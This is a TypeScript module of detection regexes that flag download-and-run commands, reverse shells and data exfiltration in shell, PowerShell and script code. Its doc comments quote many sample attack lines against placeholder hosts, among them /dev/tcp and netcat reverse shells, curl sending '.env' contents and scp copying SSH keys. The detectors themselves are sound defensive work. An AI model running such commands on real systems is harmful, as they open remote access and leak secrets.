// What commands look like that fetch code and run it, send data away, or open this machine; each with what it hits.

/** What fetches: `curl https://x`, `iwr x`, `fetch https://x`; not `git fetch origin`. */
export const FETCHES =
  /\b(?:curl|wget|aria2c|iwr|irm|invoke-webrequest|invoke-restmethod)(?:\.exe)?\s|\b(?:fetch|https?|lynx)\s{1,4}(?:-\S{1,20}\s{1,4}){0,4}["']?https?:\/\//i;
/** What decodes: `base64 -d`, `xxd -r -p`, `openssl base64 -d`. */
export const DECODES =
  /\bbase(?:32|64)\s{1,4}(?:-\w{0,3}[dD]\b|--decode\b)|\bxxd\s{1,4}(?:-\w{1,3}\s{1,4})?-\w{0,2}r|\bopenssl\s{1,4}(?:enc|base64)\b[^\n|]{0,80}\s-d\b/;
/** Whatever reads a program from its input: `| sh`, `|& bash`, `| sudo -E /bin/bash`, `| env A=1 python3`. */
export const PIPED_INTO =
  /\|&?\s{0,8}(?:(?:sudo|doas|env|exec|command|nohup|time)\b(?:\s{1,4}(?:-\w{1,12}|\w{1,20}=\S{0,40})){0,4}\s{1,4}){0,2}(?:\/(?:usr\/)?(?:local\/)?bin\/)?(?:env\s{1,4})?((?:ba|z|da|k|fi|a|tc|c)?sh|python[\d.]{0,5}|perl|node|ruby|php|deno|bun|osascript|powershell|pwsh|cmd)(?:\.exe)?(?![\w./=-])/gi;

/** Hits `bash <(curl …)`, `sh -c "$(wget …)"`, `. <(curl …)`, `eval "$(curl …)"`; not `sh deploy.sh "$(curl …)"`. */
const SHELL_OF_FETCH =
  /(?:\b(?:eval|source|(?:ba|z|da|k)?sh(?:\s{1,4}-\w{1,8}){0,3}|(?:python[\d.]{0,5}|node|perl|ruby|php)\s{1,4}-[cer])|(?:^|[;&|\s])\.)\s{1,4}(?:-c\s{1,4})?["']?[^"'\n$<`]{0,40}(?:<{1,3}\s{0,2}\(|<{0,3}\s{0,2}["']?\$\(|`)\s{0,4}(?:sudo\s{1,4})?(?:curl|wget)\b/i;
/** Hits `iwr x | iex`, `iex (New-Object Net.WebClient).DownloadString(…)`, `[scriptblock]::Create((irm x))`. */
const POWERSHELL =
  /\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|download(?:string|data)|start-bitstransfer|net\.webclient)\b[^\n]{0,600}\b(?:iex|invoke-expression|start-process)\b|\b(?:iex|invoke-expression|scriptblock\]::create)\b[^\n]{0,200}\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|net\.webclient)\b/i;
/** Hits `iwr https://x -OutFile a.exe; .\a.exe`, `…DownloadFile('https://x','a.exe'); & a.exe`. */
const POWERSHELL_FILE =
  /\b(?:iwr|irm|invoke-webrequest|curl|wget|start-bitstransfer|downloadfile)\b[^\n]{0,400}[;&]\s{0,4}(?:start\s|invoke-item\s|ii\s|saps\s|&\s{0,2}["']?[.\w$]|\.{1,2}\\\w|msiexec\s|[\w.\\/$:-]{1,60}\.(?:exe|bat|cmd|ps1)\b)/i;
/** Hits `powershell -enc SQBFAFgA…`, `certutil -urlcache -f http://x a.exe`, `mshta http://x`, `msiexec /i http://x`. */
const LIVING_OFF =
  /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,80}\s-(?:e|en|enc|encodedcommand)\s{1,4}["']?[A-Za-z0-9+/=]{16}|\bcertutil\b[^\n]{0,80}-urlcache|\bmshta\b\s{1,4}["']?https?:|\b(?:regsvr32|msiexec)\b[^\n]{0,60}https?:|\bbitsadmin\b[^\n]{0,60}\/transfer|\brundll32\b[^\n]{0,60}(?:javascript|https?):/i;
/** Hits `curl -o a https://x && chmod +x a && ./a`, `wget https://x/a; sh a`. */
const FETCH_THEN_RUN =
  /\b(?:curl|wget)\b[^\n]{1,400}(?:&&|;)[^\n]{0,200}(?:chmod\s{1,4}(?:\S{0,4}\+x|[0-7]{3})|\b(?:(?:ba|z|da)?sh|source|python[\d.]{0,5}|perl|node|ruby)\s{1,4}\S|\.\/\w)/i;
/** Hits `exec(requests.get(url).text)`, `fetch(u).then(r=>r.text()).then(eval)`, `eval get("https://x")`. */
const CODE_OF_FETCH =
  /\b(?:exec|eval|system|new\s{1,2}Function)\b\s{0,2}\(?[^\n]{0,80}(?:requests\.get|urlopen|urlretrieve|fetch\s{0,2}\(|https?\.get|URI\.open|\bget\s{0,2}\(?["']https?:|file_get_contents\s{0,2}\(\s{0,2}["']https?:|curl\s{1,4}-|curl\s{1,4}https?:)|\b(?:fetch\s{0,2}\(|axios\.get|https?["']?\)?\.get\s{0,2}\()[^\n]{0,300}(?:\.then\s{0,2}\(\s{0,2}eval\b|\beval\s{0,2}\(|\bnew\s{1,2}Function\b)/;
/** Hits `npx https://x/p.tgz`, `deno run -A https://x/i.ts`, `pip install --index-url https://x/simple p`. */
export const PACKAGE_OF_ADDRESS =
  /\b(?:npx|bunx|deno\s{1,4}run|(?:pip[\d.]{0,4}|pipx|uv\s{1,4}pip)\s{1,4}install|(?:npm|pnpm|yarn|bun)\s{1,4}(?:i|install|add|dlx|exec))\s[^\n|;]{0,200}https?:\/\//i;

/** Commands that run what they fetched. */
export const DOWNLOAD_AND_RUN: readonly RegExp[] = [
  SHELL_OF_FETCH,
  POWERSHELL,
  POWERSHELL_FILE,
  LIVING_OFF,
  FETCH_THEN_RUN,
  CODE_OF_FETCH,
];

/** Hits `eval "$(echo … | base64 --decode)"`, `bash -c "$(base64 -d …)"`, `exec(base64.b64decode(…))`, `eval(atob(…))`. */
export const RUNS_DECODED =
  /\b(?:eval|source|(?:ba|z|da)?sh(?:\s{1,4}-\w{0,4}c)?)\s{1,4}["']?(?:<\(|<{0,3}\s{0,2}["']?\$\(|`)[^\n]{0,300}\b(?:base(?:32|64)\s{1,4}(?:-\w{0,3}[dD]\b|--decode\b)|xxd\s{1,4}-)|\b(?:exec|eval)\s{0,2}\([^\n]{0,80}(?:b64decode|base64_decode|\batob\s{0,2}\(|Buffer\.from\s{0,2}\([^\n]{1,200}base64)/i;

/** Each opens a shell of this machine to another one. */
export const REVERSE_SHELLS: readonly RegExp[] = [
  // Hits `bash -i >& /dev/tcp/1.2.3.4/443 0>&1`, `exec 5<>/dev/tcp/h/1`; not `echo > /dev/tcp/db/5432`, which only knocks.
  /(?:sh\s{1,4}-i\b|exec\s{1,4}\d{0,3}<>|<>|>&)[^\n]{0,40}\/dev\/(?:tcp|udp)\/\S{1,80}\/\d|\/dev\/(?:tcp|udp)\/\S{1,80}\/\d[^\n]{0,80}(?:<&|>&\s{0,2}[0-9]\s{0,4}2>&|0>&1)/,
  // Hits `nc -e /bin/sh h 443`, `nc h 443 -c bash`, `ncat --exec "/bin/bash" h 1`.
  /\bn(?:c|cat|etcat)(?:\.exe|\.\w{1,12})?\b[^\n]{0,80}\s(?:-[a-z]{0,4}[ec]|--(?:sh-)?exec)\s{1,4}["']?(?:[\w/\\.:-]{0,40}(?:sh|cmd|pwsh|powershell))(?:\.exe)?\b/i,
  // Hits `mkfifo f; cat f | sh -i 2>&1 | nc h 1 > f`, `telnet h 1 | /bin/sh | telnet h 2`.
  /\b(?:mkfifo|mknod)\b[^\n]{0,200}\b(?:n(?:c|cat|etcat)|telnet|openssl\s{1,4}s_client)\b|\b(?:telnet|n(?:c|cat|etcat)|openssl\s{1,4}s_client)\b[^\n|]{1,80}\|\s{0,4}(?:\/bin\/)?(?:ba|z|da)?sh\b/i,
  // Hits `socat TCP:h:1 EXEC:/bin/sh`.
  /\bsocat\b[^\n]{0,200}\b(?:exec|system):/i,
  // Hits `s.connect((h,1)); os.dup2(s.fileno(),0)`, `fsockopen(h,1); exec("/bin/sh -i <&3")`, `TCPSocket.new(h,1) … sh`.
  /\b(?:socket|fsockopen|TCPSocket|TCPClient|net\.(?:connect|Socket)|inet\/tcp)\b[^\n]{0,400}(?:\bdup2\s{0,2}\(|\bpty\.spawn\b|\/bin\/(?:ba|z|da)?sh\b|\bcmd\.exe|\biex\b|invoke-expression|\bspawn\s{0,2}\()/i,
  // Hits `sh = cp.spawn("/bin/sh"); … net.connect(1, h)`.
  /\bspawn\s{0,2}\(\s{0,2}["'](?:\/bin\/)?(?:ba)?sh["'][^\n]{0,300}\b(?:net\.(?:connect|Socket)|connect\s{0,2}\()/i,
];

/** Files that hold secrets. */
const SECRET_FILE =
  '(?:\\.env|id_(?:rsa|ed25519|ecdsa)|\\.ssh|\\.aws|\\.gnupg|\\.kube|\\.netrc|\\.npmrc|\\.pgpass|\\.git-credentials|\\.docker|/etc/(?:passwd|shadow))\\b';
/** What puts something of this machine into an argument: `$(cat .env)`, `` `whoami` ``, `$AWS_SECRET`; not `$(uname -m)`. */
const TAKEN =
  '(?:\\$\\(|`)\\s{0,4}(?:sudo\\s{1,4})?(?:cat|base64|env|printenv|whoami|id|hostname|ls|find|head|tail|grep|xxd|od|tar|gzip|history|ifconfig|ip|<)(?:\\s|[)`|])|\\$\\{?\\w{0,40}(?:SECRET|PASSWO?R?D|PRIVATE|CREDENTIAL)';

/** Each sends a body. */
export const SENDS: readonly RegExp[] = [
  // Hits `curl -d "text" https://x`, `curl -sF f=@a https://x`, `curl --json @f`; not `curl -fsSL`, `curl -D -`.
  /\bcurl(?:\.exe)?\b[^\n|]{0,400}\s(?:-[a-zA-Z]{0,8}[dFT](?=[\s@"'=])|--(?:data(?:-\w{3,10})?|form(?:-string)?|json|url-query|upload-file)\b)/,
  // Hits `wget --post-file=.env http://x`, `irm https://x -Method Post -Body (Get-Content .env)`, `….UploadFile(…)`.
  /\bwget\b[^\n|]{0,300}--(?:post|body)-(?:data|file)|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)\b[^\n|]{0,400}\s-(?:body|infile|form)\b|\bupload(?:string|file|data|values)\s{0,2}\(/i,
];
/** Of these, what is taken from a file, a variable, a command or a pipe: `-d @.env`, `-F f=@a`, `-T a`, `-InFile a`. */
export const SENDS_OWN = new RegExp(
  `(?:-[a-zA-Z]{0,8}[dF]|--(?:data(?:-\\w{3,10})?|form|json|url-query)|=)[\\s"'=]{0,3}(?:\\w{1,40}=)?[@<]|\\s(?:-T|--upload-file|--(?:post|body)-file|-InFile)\\b|-Body\\s{1,4}\\(|upload(?:file|data)|${TAKEN}`,
  'i',
);
/** Hits `curl "https://x/?d=$(cat .env | base64)"`, ``wget https://x/`whoami` ``; not `…-$(uname -m).tgz`. */
export const SENDS_IN_ADDRESS = new RegExp(
  `\\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)\\b[^\\n|]{0,200}https?://[^\\s"']{1,200}(?:${TAKEN})`,
  'i',
);
/** Hits `cat .env | nc h 9999`, `nc h 9999 < .env`, `tar c . > /dev/tcp/h/1`; not `nc -vz h 22`. */
export const SENDS_BY_NETCAT =
  /\b(?:cat|tar|base64|gzip|zip|env|printenv|find|mysqldump|pg_dump|history)\b[^\n]{0,200}\|\s{0,4}(?:n(?:c|cat|etcat)|socat|telnet|openssl\s{1,4}s_client)\s{1,4}[^\n]{1,60}|\bn(?:c|cat|etcat)\s{1,4}[^\n|<]{1,60}<\s{0,4}[^\s<(&]|\b(?:cat|tar|base64)\b[^\n]{0,200}>\s{0,4}\/dev\/(?:tcp|udp)\/\S{1,80}\/\d/i;
/** Hits `scp ~/.ssh/id_rsa u@h:/tmp`, `rsync -a ~/.aws u@h:`; not `scp dist.zip u@h:`. */
export const COPIES_SECRETS = new RegExp(
  `\\b(?:scp|rsync|sftp)\\s[^\\n]{0,120}${SECRET_FILE}[^\\n]{0,120}\\s[\\w.-]{1,60}(?:@[\\w.-]{1,80})?:`,
  'i',
);
/** Hits `requests.post("https://x", data=open(".env").read())`, `fetch("https://x", {body: process.env.SECRET})`. */
export const CODE_SENDS_SECRETS = new RegExp(
  `\\b(?:requests\\.(?:post|put)|axios\\.(?:post|put)|fetch)\\s{0,2}\\([^\\n]{0,300}\\b(?:data|json|body|files)["']?\\s{0,2}[:=][^\\n]{0,60}(?:os\\.environ|process\\.env|${SECRET_FILE})`,
  'i',
);
/** Hits `nslookup 7573…2e.evil.example`, `dig $(cat .env).evil.example`; not `the host abcdef….example`. */
export const ASKS_NAME =
  /(?:^|[;&|(`])\s{0,8}(?:(?:[$#>%]|PS [^>\n]{0,60}>)\s{0,4})?(?:sudo\s{1,4})?(?:nslookup|dig|host|ping|resolve-dnsname)\s(?:[^\n]{0,40}\s)?["']?(?:[\w-]{0,60}\.)?((?=[a-z]{0,62}\d)[0-9a-z]{24,63}\.[\w.-]{3,80}|[^\s]{0,60}\$\([^)\n]{2,80}\)[\w.-]{0,80}|[^\s]{0,60}`[^`\n]{2,80}`[\w.-]{0,80})/i;
